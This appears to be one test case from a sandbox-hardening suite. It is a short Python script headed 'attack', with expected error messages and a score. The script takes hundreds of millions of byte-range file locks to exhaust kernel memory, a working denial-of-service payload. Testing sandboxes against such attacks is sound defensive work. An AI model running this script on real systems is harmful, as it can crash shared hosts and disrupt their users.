# /// attack
# title = "takes the kernel's memory by locks on parts of a file"
# score = 100
# says = ["PermissionError: “[Errno 1] Operation not permitted"]
# then_right = true
# [landlock]
# says = ["PermissionError: “[Errno 13] Permission denied"]
# ///
import fcntl

file = open("file", "wb")
for start in range(0, 10**9, 2):
    fcntl.lockf(file, fcntl.LOCK_EX, 1, start)
